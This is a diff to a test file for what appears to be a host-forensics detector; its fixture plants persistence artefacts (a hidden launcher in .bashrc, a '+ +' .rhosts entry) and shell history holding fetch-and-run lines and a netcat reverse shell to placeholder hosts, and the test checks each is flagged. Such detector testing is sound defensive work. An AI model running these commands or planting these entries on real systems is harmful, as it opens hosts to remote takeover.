@@ -118,6 +118,7 @@ def _plant(host: Path, outside: Path) -> None:
         "alias ll='ls -l'\nexport HISTFILE=~/.cache/.h\n(/dev/shm/.cache/upd >/dev/null 2>&1 &)\n",
     )
     _write(alice / ".cache/.h", "ls\ncurl -s http://203.0.113.9/a.sh | sh\n")
+    _write(alice / ".rhosts", "+ +\n")
     _write(
         alice / ".bash_history",
         "#1764000000\nwget -O- http://x.example | bash\nnc 203.0.113.5 4444 -e /bin/sh\nls -la\n"
@@ -211,6 +212,7 @@ def test_every_planted_entry_is_a_finding(collected: tuple[Path, list[dict]]) ->
         ("persistence-changed-in-window", "/home/alice/.ssh/authorized_keys:1"),
         ("persistence-changed-in-window", "/var/spool/cron/crontabs/alice"),
         ("persistence-writable-target", "/home/alice/.bashrc"),
+        ("persistence-changed-in-window", "/home/alice/.rhosts"),
         ("ld-preload-present", "/etc/ld.so.preload"),
         ("pam-module-unpackaged", "/etc/pam.d/sshd"),
         ("history-disabled", "/root/.profile:2"),
